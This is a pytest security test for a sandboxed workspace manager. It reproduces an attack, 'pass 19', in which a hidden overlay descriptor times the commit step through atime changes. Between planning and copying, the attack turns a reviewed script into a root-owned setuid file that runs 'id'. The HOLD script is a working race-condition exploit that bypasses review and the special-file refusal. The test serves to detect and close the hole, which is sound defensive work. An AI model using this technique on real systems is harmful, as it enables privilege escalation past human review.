"""Attack pass 19 (critical as root: a setuid-root file no review showed, past commit's refusal
of special files): a mode set during commit, after the plan judged the file and before the
copy read its mode.

Same hold as test_commit_copies_what_it_compared.py: a descriptor of a fresh holder's
overlay (pass 18: mounted over an upper in use, it never owns the kernel's mark) is held by
another session's process and is invisible to commit's in-use probe. Commit judges each
entry three times, each time from a new ``stat`` of the upper: ``shown.late`` (the review
record), ``make_plan`` (setuid, setgid, capabilities, devices are *refused* without
``--allow-special``), then ``steps._prepare_write`` stats the upper entry once more and
``_copy_file``/``_set_meta`` apply *that* mode and owner to the real copy. Between the plan
and the copy the held descriptor runs ``fchmod(04755)``: the real file is setuid (root's,
when root commits), never shown by review, never named with ``--allow-special``, and
commit reports it as committed.

Timing is the agent's: relatime. After the review, the holder bumps the ctime of the
project's first file ``aaa.txt`` through its descriptor; commit's digest reads it (atime
moves: bump again), then the executor's copy reads it (atime moves again): commit is now
copying, in path order, the few hundred files before ``zzz.sh``. The holder sets
``zzz.sh`` setuid and rewrites its bytes at once.

Reproduction (any account): pass 18's steps with D2 a descriptor of the project's root in
the fresh holder's overlay, the second call writing ``aaa.txt``, 400 files and ``zzz.sh``
(0755, ``echo reviewed``); ``workspace status``/``diff``; the holder arms; ``workspace
commit``: "committed 402 paths", real ``zzz.sh`` is ``-rwsr-xr-x`` (owner root as root) and
runs ``id``.

Rule broken: commit refuses special files unless named with ``--allow-special`` and applies
only what review showed (docs/security.md, commit side). Rule that would close the class:
commit applies the attributes and bytes it judged, from one descriptor: open the upper entry
once (no follow), judge (record, plan's special-file rules) from ``fstat`` and the bytes read
from that descriptor into the copy, and publish nothing whose descriptor changed meanwhile;
plus pass 18's rule (every live overlay over an upper owns its mark) for the probe.
"""

from __future__ import annotations

import json
import stat
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from manager.engines.overlay import engine as overlay_engine
from tests.engines import accounts
from tests.security.two_sessions import ID_SETUPS
from tests.security.two_sessions import account_for
from tests.security.two_sessions import sandbox_of
from tests.security.two_sessions import say
from tests.security.two_sessions import wait_line

pytestmark = [pytest.mark.engine, pytest.mark.needs_root]

FILES = 400

HOLD = """
import os, socket, sys, time
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("\\0" + sys.argv[1])
s.listen(4)
c, _ = s.accept()
_, first, _, _ = socket.recv_fds(c, 100, 1)
print("first", flush=True)
c, _ = s.accept()
_, second, _, _ = socket.recv_fds(c, 100, 1)
print("second", flush=True)
c, _ = s.accept()
c.recv(10)
os.close(first[0])          # the first overlay goes, and the in-use mark with it
print("dropped", flush=True)
c, _ = s.accept()
c.recv(10)
sentinel = os.open("aaa.txt", os.O_RDONLY, dir_fd=second[0])
target = os.open("zzz.sh", os.O_RDWR, dir_fd=second[0])

def next_read():
    os.fchmod(sentinel, os.fstat(sentinel).st_mode & 0o7777)   # ctime past atime
    before = os.fstat(sentinel).st_atime_ns
    deadline = time.monotonic() + 30
    while os.fstat(sentinel).st_atime_ns == before:
        if time.monotonic() > deadline:
            print("no read", flush=True)
            sys.exit(0)
        time.sleep(0.0005)

print("armed", flush=True)
next_read()                 # commit's comparison with the review record
next_read()                 # the executor's copy: the plan is made
os.pwrite(target, b"id #####\\n", len(b"#!/bin/sh\\n"))
os.fchmod(target, 0o4755)
print("wrote", flush=True)
"""

SEND_PROJECT = """
import os, socket, sys, time
for _ in range(200):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\\0" + sys.argv[1])
        break
    except OSError:
        s.close()
        time.sleep(0.1)
socket.send_fds(s, [b"dir"], [os.open(".", os.O_RDONLY | os.O_DIRECTORY)])
print("sent", flush=True)
"""

MAKE_AND_SEND = """
import os, socket, sys
with open("aaa.txt", "w") as f:
    f.write("first\\n")
for i in range(int(sys.argv[2])):
    with open(f"f{i:05d}.txt", "w") as f:
        f.write(f"{i}\\n")
with open("zzz.sh", "w") as f:
    f.write("#!/bin/sh\\necho reviewed\\n")
os.chmod("zzz.sh", 0o755)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("\\0" + sys.argv[1])
socket.send_fds(s, [b"dir"], [os.open(".", os.O_RDONLY | os.O_DIRECTORY)])
print("sent", flush=True)
"""


@pytest.mark.parametrize("ids", ID_SETUPS)
def test_commit_applies_the_mode_it_judged(ids: str, tmp_path: Path) -> None:
    account, env = account_for(ids, tmp_path)
    other = account.base / "other"
    other.mkdir()
    account.chown(other)
    name = f"ws-attack19s-{uuid.uuid4().hex[:12]}"
    full = account.env(**env)
    holder = subprocess.Popen(
        [*account.prefix, "env", *(f"{k}={v}" for k, v in full.items()), account.python, "-m",
         "manager", "run", "--project", str(other), "--", "python3", "-c", HOLD, name],
        cwd=other, env=full, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        sent = account.ws("run", "--", "python3", "-c", SEND_PROJECT, name, env=env, timeout=60)
        assert "sent" in sent.stdout, sent
        wait_line(holder, "first")
        sandbox = sandbox_of(account, account.project)
        pid = overlay_engine.holder_pid(sandbox)
        assert pid is not None
        overlay_engine._kill(pid)      # an idle exit (or any retirement: pass 18)
        time.sleep(0.5)
        made = account.ws("run", "--", "python3", "-c", MAKE_AND_SEND, name, str(FILES),
                          env=env, timeout=60)
        assert "sent" in made.stdout, made
        assert overlay_engine.holder_pid(sandbox) not in (None, pid), "no fresh holder"
        wait_line(holder, "second")
        say(name, b"drop")
        wait_line(holder, "dropped")
        review = json.loads(account.ws("status", "--json", env=env, check=True).stdout)
        assert not review.get("running"), review
        account.ws("diff", env=env, check=True)
        say(name, b"arm")
        wait_line(holder, "armed")
        done = account.ws("commit", env=env, timeout=60)
        out, err = holder.communicate(timeout=60)
        real = account.project / "zzz.sh"
        if not real.exists():
            assert done.returncode != 0, done
            return
        st = real.lstat()
        assert not st.st_mode & stat.S_ISUID and real.read_text() == \
            "#!/bin/sh\necho reviewed\n", (
            "commit published a setuid file (owner uid "
            f"{st.st_uid}, mode {oct(st.st_mode)}) with bytes no review showed, without "
            "--allow-special: a descriptor of the fresh holder's overlay (unmarked, invisible "
            "to the in-use probe) changed it after the plan judged it and before the copy "
            f"stat'ed it: {real.read_text()!r}\nholder: {out}{err}\n"
            f"commit said: {done.stdout[-300:]}{done.stderr[-300:]}")
    finally:
        if holder.poll() is None:
            holder.kill()
            holder.wait(timeout=10)
        accounts.clean(account)
